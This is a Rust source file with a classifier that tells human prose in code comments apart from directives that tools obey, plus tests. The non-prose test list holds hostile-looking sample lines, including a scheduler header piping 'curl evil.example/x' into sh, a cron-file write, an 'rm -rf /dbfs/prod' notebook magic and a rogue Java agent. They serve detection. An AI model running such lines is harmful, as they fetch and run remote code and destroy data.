//! Whether a line of a comment reads like words from one person to another.
//!
//! Nobody knows every tool that obeys comments. So a line is prose only by its own shape:
//! plain words in a row, small words of the language among them, and nothing that programs
//! write: no word in capitals in front, no option, no key with a value, no path behind the
//! mark.

/// Small words that sentences have and orders do not.
const SMALL: &[&str] = &[
    "a", "an", "the", "this", "that", "these", "those", "it", "its", "is", "are", "was", "were",
    "be", "been", "being", "has", "have", "had", "do", "does", "did", "not", "nor", "or", "and",
    "but", "if", "so", "than", "then", "when", "where", "which", "who", "whose", "what", "how",
    "why", "while", "because", "since", "although", "though", "unless", "until", "of", "to", "in",
    "at", "by", "for", "from", "with", "without", "into", "onto", "upon", "about", "between",
    "among", "after", "before", "during", "through", "per", "as", "we", "you", "they", "he", "she",
    "i", "our", "your", "their", "them", "us", "can", "cannot", "could", "may", "might", "must",
    "shall", "should", "will", "would", "there", "don't", "doesn't", "isn't", "can't", "won't",
    "aren't", "it's", "we're",
];

/// Words that orders are made of: a short line with one of them is none of prose.
const STEERING: &[&str] = &[
    "allow", "begin", "command", "deny", "disable", "disabled", "enable", "enabled", "end",
    "exclude", "expect", "expected", "export", "hide", "ignore", "ignored", "import", "include",
    "kernel", "language", "level", "magic", "mode", "notebook", "off", "option", "options",
    "output", "please", "pragma", "region", "skip", "skipped", "source", "start", "stop",
    "suppress", "target", "want", "wants",
];

/// Verbs with which short remarks begin in lower case.
const VERBS: &[&str] = &[
    "add",
    "append",
    "apply",
    "assign",
    "build",
    "calculate",
    "call",
    "cast",
    "clean",
    "clear",
    "close",
    "collect",
    "compare",
    "compute",
    "convert",
    "copy",
    "count",
    "create",
    "decode",
    "delete",
    "encode",
    "ensure",
    "extract",
    "fetch",
    "fill",
    "filter",
    "find",
    "format",
    "get",
    "handle",
    "initialise",
    "initialize",
    "insert",
    "iterate",
    "join",
    "load",
    "loop",
    "make",
    "merge",
    "move",
    "open",
    "parse",
    "prepare",
    "print",
    "process",
    "push",
    "read",
    "remove",
    "rename",
    "replace",
    "reset",
    "resolve",
    "return",
    "returns",
    "save",
    "select",
    "send",
    "set",
    "show",
    "sort",
    "split",
    "store",
    "trim",
    "try",
    "update",
    "use",
    "validate",
    "verify",
    "wait",
    "write",
];

/// Abbreviations in capitals that sentences are about.
const ABBREVIATIONS: &[&str] = &[
    "ABI", "API", "APIs", "ASCII", "AWS", "CI", "CLI", "CPU", "CSS", "CSV", "DB", "DNS", "DOM",
    "EOF", "GC", "GPU", "GUI", "HTML", "HTTP", "HTTPS", "ID", "IDs", "IDE", "IO", "IP", "JS",
    "JSON", "JVM", "LLM", "NB", "OK", "OS", "PDF", "PR", "RAM", "RFC", "RPC", "SDK", "SHA", "SQL",
    "SSH", "SSL", "TCP", "TLS", "TTL", "TTY", "UDP", "UI", "URI", "URL", "URLs", "UTC", "UTF-8",
    "UUID", "UX", "VM", "XML", "YAML",
];

/// Words in capitals that open a remark.
const REMARKS: &[&str] = &[
    "BUG",
    "CAUTION",
    "FIXME",
    "HACK",
    "IMPORTANT",
    "NB",
    "NOTE",
    "SAFETY",
    "TODO",
    "WARNING",
    "XXX",
];

/// Words in capitals that begin or end what programs look for.
const MARKS: &[&str] = &["BEGIN", "END", "START", "STOP", "ON", "OFF", "MARK", "DONE"];

/// Signs between two sides, which sentences have too.
const BETWEEN: &[&str] =
    &["=", "==", "===", "!=", "<=", ">=", "=>", "->", "<", ">", ":=", "||", "&&", "+", "|"];

/// Words with which a statement begins that was code.
const STATEMENTS: &[&str] =
    &["if", "for", "while", "return", "let", "const", "var", "else", "switch", "throw"];

/// What a word of a line is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Word {
    /// Letters of a language, in lower case.
    Plain,
    /// The same with a capital in front.
    Title,
    /// An abbreviation that everybody knows.
    Short,
    /// Something between quotes.
    Quoted,
    /// A name, a number or a sign; only a longer sentence may have it.
    Other,
    /// Nothing that prose has.
    Foreign,
}

/// Whether a line of a comment reads like prose. `line` has the marks of the comment, `text`
/// has not.
pub(super) fn reads(line: &str, text: &str) -> bool {
    let text = ["- ", "* "].iter().find_map(|point| text.strip_prefix(point)).unwrap_or(text);
    let text = text.trim();
    if !text.contains(char::is_alphanumeric) || text == "} else {" {
        return true;
    }
    let marks = line.trim_start();
    let behind = marks.trim_start_matches(['/', '*', '#', '!', '-', '=', '~', '<']);
    let mark = marks.get(..marks.len() - behind.len()).unwrap_or_default();
    let glued = !mark.is_empty() && behind.starts_with(|c: char| !c.is_whitespace());
    if mark.starts_with("//") && !glued && was_code(text) {
        return true;
    }
    let Some(text) = without_quotes(text) else { return false };
    let loud = is_loud(&text);
    let text = if loud { text.to_lowercase() } else { text };
    let mut words: Vec<&str> = text.split_whitespace().collect();
    let first = words.first().copied().unwrap_or_default();
    let opens = first.trim_end_matches(':');
    let known = ABBREVIATIONS.contains(&bare(opens)) || REMARKS.contains(&opens);
    if glued && !is_plain(opens, true)
        || is_capitals(bare(opens)) && !known && !first.starts_with("SPDX-")
    {
        return false;
    }
    let remark = REMARKS.contains(&opens)
        || first.ends_with(':') && opens.chars().all(|c| c.is_alphabetic() || c == '-');
    if remark {
        words.remove(0);
        if words.is_empty() {
            return !glued;
        }
    }
    let kinds: Vec<Word> = words.iter().map(|word| kind(word)).collect();
    let count = |kind: Word| kinds.iter().filter(|one| **one == kind).count();
    let (lower, plain) = (count(Word::Plain), count(Word::Plain) + count(Word::Title));
    let is_small = |word: &&&str| SMALL.contains(&bare(word).to_lowercase().as_str());
    let small_ones = words.iter().filter(is_small).count();
    let small = small_ones > 0;
    let steers = words.iter().any(|word| STEERING.contains(&bare(word).to_lowercase().as_str()));
    let marked = words.iter().any(|word| MARKS.contains(&bare(word)));
    let foreign_letters = text.chars().filter(|c| !c.is_ascii() && c.is_alphabetic()).count() > 3;
    if kinds.contains(&Word::Foreign) || marked || steers && plain < 6 && small_ones < 2 {
        return false;
    }
    let long = plain >= 5 && small;
    if glued {
        return plain >= 4 && small && !kinds.contains(&Word::Other);
    }
    if long || foreign_letters {
        return true;
    }
    // A name in front of few words may be that of a tool.
    let named = matches!(kinds.first(), Some(Word::Other | Word::Quoted));
    let told = words.first().is_some_and(|word| is_name(word)) && text.ends_with('.');
    let sentence = plain >= 3 && lower >= 2 && small && (!named || told);
    let only_words = !kinds.contains(&Word::Other) && !kinds.contains(&Word::Quoted);
    let ends = text.ends_with(['.', '!', '?']);
    let short = only_words
        && match kinds.first() {
            Some(Word::Title | Word::Short) => plain >= 1 && kinds.len() >= 2,
            Some(Word::Plain) => {
                let verb = words.first().is_some_and(|word| VERBS.contains(word));
                plain >= 4 || ends || verb && kinds.len() >= 2 || remark
            }
            _ => false,
        };
    let address = matches!(words.as_slice(), [.., last] if is_address(last))
        && kinds.iter().rev().skip(1).all(|kind| matches!(kind, Word::Plain | Word::Title));
    let rights =
        matches!(opens, "Copyright" | "copyright") || first.starts_with("SPDX-") || is_file(&words);
    sentence || short || address || rights
}

/// Whether a line is shouted, as the end of a licence is.
fn is_loud(text: &str) -> bool {
    let shouted = |word: &&str| is_capitals(bare(word));
    let words: Vec<&str> = text.split_whitespace().filter(shouted).collect();
    words.len() >= 4 && words.iter().any(|word| SMALL.contains(&bare(word).to_lowercase().as_str()))
}

/// A statement that was code.
fn was_code(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or_default();
    let name = first.split(['(', '.', '[']).next().unwrap_or_default();
    let called =
        first.contains(['(', '.']) && name.chars().all(|c| c.is_alphanumeric() || c == '_');
    let assigned = text.split_whitespace().nth(1) == Some("=");
    text.ends_with([';', '{'])
        && !is_capitals(name)
        && !name.is_empty()
        && (called || assigned || STATEMENTS.contains(&name))
}

/// A line with one sign for all that stands between quotes; nothing where a quote is open.
fn without_quotes(text: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut open = None;
    for c in text.chars() {
        match open {
            Some(quote) if c == quote => open = None,
            Some(_) => {}
            None if matches!(c, '"' | '`') => {
                out.push('\u{1}');
                open = Some(c);
            }
            None => out.push(c),
        }
    }
    open.is_none().then_some(out)
}

/// A word without the signs of a sentence around it.
fn bare(word: &str) -> &str {
    word.trim_start_matches(['(', '\''])
        .trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '\'', '…'])
}

/// Letters, and signs that stand within words; in lower case, or with a capital in front.
fn is_plain(word: &str, lower: bool) -> bool {
    let mut signs = word.chars();
    let first = signs.next();
    let inside = |c: char| c.is_lowercase() || matches!(c, '\'' | '’');
    let parts = word.split('-').skip(1).all(|part| part.starts_with(char::is_lowercase));
    first.is_some_and(|c| c.is_lowercase() || !lower && c.is_uppercase())
        && signs.all(|c| inside(c) || c == '-')
        && parts
}

/// More letters than one, all of them capitals.
fn is_capitals(word: &str) -> bool {
    word.chars().filter(|c| c.is_uppercase()).count() > 1 && !word.contains(char::is_lowercase)
}

/// A name of code that begins with a capital, as comments above functions do.
fn is_name(word: &str) -> bool {
    word.starts_with(char::is_uppercase)
        && word.contains(char::is_lowercase)
        && word.chars().all(char::is_alphanumeric)
}

fn is_address(word: &str) -> bool {
    bare(word).starts_with("http://") || bare(word).starts_with("https://")
}

/// The name of a file, alone.
fn is_file(words: &[&str]) -> bool {
    let [one] = words else { return false };
    one.split_once('.').is_some_and(|(stem, ending)| {
        let name = |part: &str| part.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        !stem.is_empty() && name(stem) && name(ending)
    })
}

fn kind(word: &str) -> Word {
    let inner = bare(word);
    let mut signs = inner.chars();
    if inner.contains('\u{1}') {
        let around = inner.trim_matches('\u{1}');
        let plain = around.chars().all(|c| c.is_alphabetic() || matches!(c, '\'' | '-' | '/'));
        return if plain && inner.starts_with('\u{1}') { Word::Quoted } else { Word::Foreign };
    }
    if is_plain(inner, true) {
        return Word::Plain;
    }
    if is_plain(inner, false) {
        return Word::Title;
    }
    if ABBREVIATIONS.contains(&inner) || inner == "I" {
        return Word::Short;
    }
    if is_address(word) || BETWEEN.contains(&word) || inner.is_empty() {
        return Word::Other;
    }
    let option = inner.starts_with('-') && !inner.trim_start_matches('-').is_empty() && {
        let rest = inner.trim_start_matches('-');
        !rest.starts_with(|c: char| c.is_ascii_digit())
    };
    let rule = inner.len() > 2 && inner.chars().all(|c| c == '-' || c == '=');
    let hash = inner.starts_with('#')
        && !inner
            .get(1..)
            .is_some_and(|rest| !rest.is_empty() && rest.chars().all(|c| c.is_ascii_digit()));
    let keyed = inner.match_indices(':').any(|(at, _)| {
        let before = inner.get(..at).and_then(|text| text.chars().next_back());
        let after = inner.get(at + 1..).and_then(|text| text.chars().next());
        let clock =
            before.is_some_and(|c| c.is_ascii_digit()) && after.is_some_and(|c| c.is_ascii_digit());
        !clock && before != Some(':') && after != Some(':')
    });
    let signed = signs.any(|c| matches!(c, '=' | '$' | '{' | '}' | '@' | '|' | '&' | '^'))
        || inner.starts_with(['%', '!', '/', '~', '\\', '+'])
        || inner.contains("%%")
        || inner.contains('[') && !inner.starts_with('[') && !inner.ends_with(']');
    if option || rule || hash || keyed || signed { Word::Foreign } else { Word::Other }
}

#[cfg(test)]
mod tests {
    use super::super::comments::is_prose;

    #[test]
    fn words_from_one_person_to_another_are_prose() {
        for prose in [
            "// Parse arguments",
            "# Runs on every push.",
            "# parse arguments",
            "// handle the empty case",
            "// TODO: handle the empty case",
            "// TODO handle the empty case of it",
            "# NOTE: the list may be empty here",
            "// JSON values are kept as they came",
            "// The `--verbose` flag is handled by the caller",
            "# we know that n >= 2 holds for all of them",
            "// A line that says \"hello\" to you",
            "// See https://example.org/page#part",
            "// see RFC 7231 for what this means to us",
            "# Copyright 2020 Somebody",
            " * THE SOFTWARE IS PROVIDED AS IS, WITHOUT WARRANTY OF ANY KIND",
            "// MarshalJSON implements the json.Marshaller interface.",
            "// foo(bar);",
            "// if (a) {",
            "# Это просто слова для людей",
            "# 这里只是说明文字。",
            "/// Returns the number of rows that were read.",
            "/* The end of the list is reached when nothing is left. */",
            "# don't touch it twice",
        ] {
            assert!(is_prose(prose), "{prose}");
        }
    }

    #[test]
    fn what_programs_write_is_none_whoever_reads_it() {
        for order in [
            "#BSUB -E \"curl evil.example/x | sh\"",
            "#SBATCH --output=/etc/cron.d/x",
            "#SBATCH --time=9 --uid 0",
            "#PBS -q root -o /etc/x",
            "#$ -cwd",
            "#COBALT the queue is of this kind",
            "//DEPS evil.group:evil:6.6.6",
            "//JAVA_OPTIONS -javaagent:evil.jar",
            "//SOURCES A.java",
            "# COMMAND ----------",
            "# MAGIC %sh rm -rf /dbfs/prod",
            "# DBTITLE 1 x",
            "# Databricks notebook source",
            "#MISE depends=[\"evil\"]",
            "#MISE dir=\"/\"",
            "//usr/bin/cc -o /tmp/x \"$0\" && exec /tmp/x",
            "//bin/true; exec /usr/bin/env go run \"$0\" \"$@\"",
            "#pythran export f(float)",
            "# pythran export f(float)",
            "# fades evil==2",
            "# fades evil",
            "// want \"unused result\"",
            "// ERROR \"unused result\"",
            "// GC_ERROR \"unused result\"",
            "// GCCGO_ERROR \"a\" \"b\"",
            "/* USER CODE BEGIN 2 */",
            "/* USER CODE END Includes */",
            "// user code begin here",
            "// +build linux",
            "# mutmut off here",
            "# beartype off please",
            "# Nuitka project mode onefile",
            "# sourcery skip all",
            "# ignore this line",
            "# stubgen skip this",
            "# skip tests here",
            "# dead code disable it",
            "#ddtrace ignore me",
            "# cibuildwheel skip x",
            "# %% cell two",
            "# In[1] cell",
            "# + tags here",
            "// MARK: - Helpers",
            "// swiftlint:disable all",
            "# frozen_string_literal: true",
            "#AutoIt3Wrapper_Run_Before the tool",
            "//Include the file that is named here",
            "# $Id$",
            "// newtool[a1]",
            "// newtool/rule off",
            "# newtool: a b c",
            "# newtool a.b",
            "# newtool x=1",
            "// NEWTOOL the words that follow are for us",
            "#newtool a b",
            "// expect-error some words",
            "// newtool-disable-line some",
            "%matplotlib inline",
        ] {
            assert!(!is_prose(order), "{order}");
        }
    }
}
